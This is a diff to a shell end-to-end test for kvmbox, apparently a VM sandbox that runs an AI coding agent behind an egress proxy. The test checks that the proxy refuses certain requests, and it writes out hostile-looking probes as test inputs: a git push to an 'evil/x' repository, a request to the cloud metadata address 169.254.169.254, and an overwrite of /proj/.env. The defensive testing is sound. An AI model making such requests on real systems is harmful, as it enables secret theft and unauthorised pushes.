@@ -22,9 +22,12 @@
 # are hidden from the agent (not listed, not overwritable, untouched on the
 # host) and named at launch; the project's executable .kvmbox.runtime.sh
 # runs in the guest before the agent, and one that fails stops the launch
-# with its status (--no-hook: not run); the launch self-test stops a launch
-# whose egress policy is broken on purpose (KVMBOX_FAULT_EGRESS, sanitizer
-# builds) before the hook and the agent; a git hook the agent creates and
+# with its status (--no-hook: not run); the launch self-test (curl in the
+# image asks the proxy's self-test endpoint) passes a sound launch, says
+# what it cost under --profile, and stops before the hook and the agent a
+# launch whose egress policy is broken on purpose (KVMBOX_FAULT_EGRESS,
+# sanitizer builds) and one whose guest was handed a CA that is not the
+# proxy's (KVMBOX_FAULT_CA); a git hook the agent creates and
 # its change to .git/config are named at exit under a warning, with
 # unified diffs; the agent's exit status is kvmbox's; the
 # per-launch directory is gone afterwards; a missing project folder is a
@@ -33,7 +36,10 @@
 . "$(dirname "$0")/lib/nested.sh"
 E2E_TEST_NAME="nested harness"
 
+need_cmd curl
 e2e_prepare
+# curl in the image: the launch self-test's client
+e2e_add_program "$E2E_L1_ROOT/kc/images/default/rootfs" "$(command -v curl)" /usr/bin/curl
 # git in L1 (the host side reads the project's remotes and identity with it)
 have_git=
 if command -v git >/dev/null; then
@@ -91,6 +97,11 @@ echo "gitconfig=$(tr '\n\t' '| ' <$HOME/.gitconfig)"
 echo "ghhosts=$(tr '\n' '|' <$HOME/.config/gh/hosts.yml)"
 echo written-by-agent >/proj/from-guest
 echo "projls=$(ls -A /proj /proj/certs | tr '\n' ' ')"
+# refused requests, whose 403 bodies the agent can read: a push off the
+# allow-list (an address that is public; nothing is dialled) and the
+# metadata address
+echo "push=$(curl -s -m 20 --resolve github.com:443:1.2.3.4 -X POST https://github.com/evil/x.git/git-receive-pack)"
+echo "meta=$(curl -s -m 20 http://169.254.169.254/latest/meta-data/)"
 sed 's/^/policy: /' /etc/kvmbox/POLICY.md
 echo "memory-points=$(grep -c /etc/kvmbox/POLICY.md $HOME/.claude/CLAUDE.md)"
 echo stolen >/proj/.env 2>/dev/null && echo "env-overwritten"
@@ -108,7 +119,7 @@ e2e_step after 20 sh -c 'cat /proj/from-guest; ls -A $XDG_RUNTIME_DIR | wc -l; c
 e2e_step noproject 20 kvmbox claude --project /no/such/dir
 e2e_step nostate 240 sh -c 'kvmbox claude --no-state --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
 e2e_step nogit 240 sh -c 'KVMBOX_LOG=info kvmbox claude --no-git --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
-e2e_step statedir 20 sh -c 'cd $HOME/.local/state/kvmbox/projects && ls; d=$(ls -d proj-* | grep -v "\.repos$"); stat -c "%a %n" . .. $d $d/claude $d.repos;
+e2e_step statedir 20 sh -c 'cd $HOME/.local/state/kvmbox/projects && ls; d=$(ls -d proj-* | grep -v "\.repos$\|\.denials$"); stat -c "%a %n" . .. $d $d/claude $d.repos $d.denials;
 	echo "lines=$(wc -l <$d/claude/history.txt)"; ls -A $d/claude | sed "s/^/entry: /"; grep -rl XYZZY . | sed "s/^/real-in-state: /"; grep -rl kvmbox-ph- . | sed "s/^/placeholder-in-state: /"'
 printf '#!/bin/sh\necho hook-says-no\nexit 3\n' >/proj/.kvmbox.runtime.sh
 e2e_step hookfail 240 sh -c 'kvmbox claude --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
@@ -116,12 +127,28 @@ e2e_step nohook 240 sh -c 'kvmbox claude --no-hook --kernel /vmlinux --initrd /l
 # the self-test against a policy broken on purpose (sanitizer builds only)
 e2e_step selftest 240 sh -c 'KVMBOX_FAULT_EGRESS=open kvmbox claude --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
 e2e_step noselftest 240 sh -c 'KVMBOX_FAULT_EGRESS=open kvmbox claude --no-self-test --no-hook --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
+e2e_step forgedca 240 sh -c 'KVMBOX_FAULT_CA=forged kvmbox claude --kernel /vmlinux --initrd /l2.cpio --memory 512M 2>&1'
+e2e_step denials 20 kvmbox logs --denials --project /proj
 PAYLOAD
 )
 e2e_run_or_bail "$payload" 800
 
 e2e_check_rc claude 4 "kvmbox claude exits with the agent's status"
-e2e_check_lacks claude "the launch self-test passed (metadata, host, CA)" 'self-test'
+e2e_check_lacks claude "the launch self-test passed (metadata, host, CA, placeholders, GitHub)" 'self-test'
+e2e_check_lacks claude "its endpoint's address is not counted among the denials" '192\.0\.2\.1'
+e2e_check_lacks claude "nor are its probes of the host and the metadata address" 'denied tcp to 10\.0\.2\.2\|10\.0\.2\.2:80'
+e2e_check_has claude "a push off the allow-list gets a 403 whose body the agent reads" '^push=kvmbox: write to GitHub repository evil/x refused'
+e2e_check_has claude "so does a request to the metadata address" \
+	'^meta=kvmbox: the egress policy refuses 169\.254\.169\.254 port 80: cloud metadata'
+e2e_check_has claude "the exit summary counts the agent's metadata request once (not the self-test's)" \
+	'refused 1 connection or lookup: 169\.254\.169\.254:80/tcp x1'
+e2e_check_rc denials 0 "kvmbox logs --denials prints the project's record"
+e2e_check_has denials "a line per launch, naming agent, project and profile" \
+	'^[0-9TZ:-]* launch: kvmbox claude in /proj, egress profile permissive$'
+e2e_check_has denials "the proxy's 403s as they were given" '^[0-9TZ:-]* refused: https github.com: kvmbox: write to GitHub repository evil/x refused'
+e2e_check_has denials "the network stack's refusals with their counts" \
+	'^[0-9TZ:-]* refused: 169\.254\.169\.254:80/tcp x1 (cloud metadata'
+e2e_check_has passthrough "--profile: the self-test says what it cost" '^kvmbox: self-test: [0-9]* checks in [0-9]* ms$'
 e2e_check_has claude "the agent runs in the project folder" -x 'pwd=/proj'
 e2e_check_has claude "the agent's arguments arrive (claude without permission prompts: the VM is the boundary)" \
 	-x 'args=--dangerously-skip-permissions --resume two words'
@@ -194,6 +221,7 @@ e2e_check_has nostate "--no-state: no state directory" -x 'configdir= histfile='
 e2e_check_has statedir "one state directory for the project, named after it" '^proj-[0-9a-f]\{16\}\( \|$\)'
 e2e_check_has statedir "the state directories are 0700" '^700 proj-[0-9a-f]*/claude$'
 e2e_check_has statedir "the pinned remotes beside it are 0600" '^600 proj-[0-9a-f]*\.repos$'
+e2e_check_has statedir "so is the record of refusals" '^600 proj-[0-9a-f]*\.denials$'
 e2e_check_has statedir "the host holds the three launches' history" -x 'lines=3'
 e2e_check_lacks statedir "no real secret in the state directory" 'real-in-state'
 e2e_check_lacks statedir "no placeholder login file left in it after the launch" 'entry: .credentials.json'
@@ -211,6 +239,10 @@ e2e_check_has selftest "by the self-test, in one line naming the promise" \
 	'^kvmbox: self-test: http://\(169\.254\.169\.254\|10\.0\.2\.2\)/ was not refused by the egress policy (.*); the agent was not started$'
 e2e_check_lacks selftest "before the hook and the agent" '^pwd=\|hook-says-no'
 e2e_check_rc noselftest 4 "--no-self-test lets the same launch through: the check was what stopped it"
+e2e_check_rc forgedca 125 "a launch whose guest does not trust the proxy (a CA that is not the proxy's) is stopped"
+e2e_check_has forgedca "by the self-test, in one line saying which request failed and how" \
+	"^kvmbox: self-test: GET https://.* was answered '000 curl: ([0-9]*) .*' where .* was due; the agent was not started\$"
+e2e_check_lacks forgedca "before the hook and the agent" '^pwd=\|hook-says-no'
 e2e_check_rc noproject 2 "a missing project folder: exit 2"
 e2e_check_has noproject "with one line naming it" 'project folder /no/such/dir'
 tap_done
